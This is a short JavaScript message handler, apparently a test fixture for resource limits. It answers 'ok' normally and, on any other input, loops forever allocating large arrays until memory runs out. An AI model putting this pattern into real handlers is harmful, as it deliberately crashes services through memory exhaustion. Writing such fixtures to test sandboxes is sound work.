export function onMessage(message) {
  if (message === "ok") return "fine";
  const hoard = [];
  for (;;) hoard.push(new Array(100000).fill(message));
}
